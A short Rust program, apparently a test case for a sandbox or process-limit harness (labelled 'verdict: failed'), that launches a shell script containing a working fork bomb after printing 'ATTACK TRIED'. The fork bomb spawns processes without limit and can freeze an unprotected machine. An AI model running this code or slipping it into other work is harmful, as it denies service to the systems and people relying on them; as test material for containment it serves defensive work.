//! Forks without end.
//!
//! verdict: failed

use std::process::Command;

const SCRIPT: &str = r##"
echo ATTACK TRIED
bomb() { bomb | bomb & }; bomb; sleep 60
"##;

fn main() {
    let _ = Command::new("/bin/sh").args(["-c", SCRIPT]).status();
}
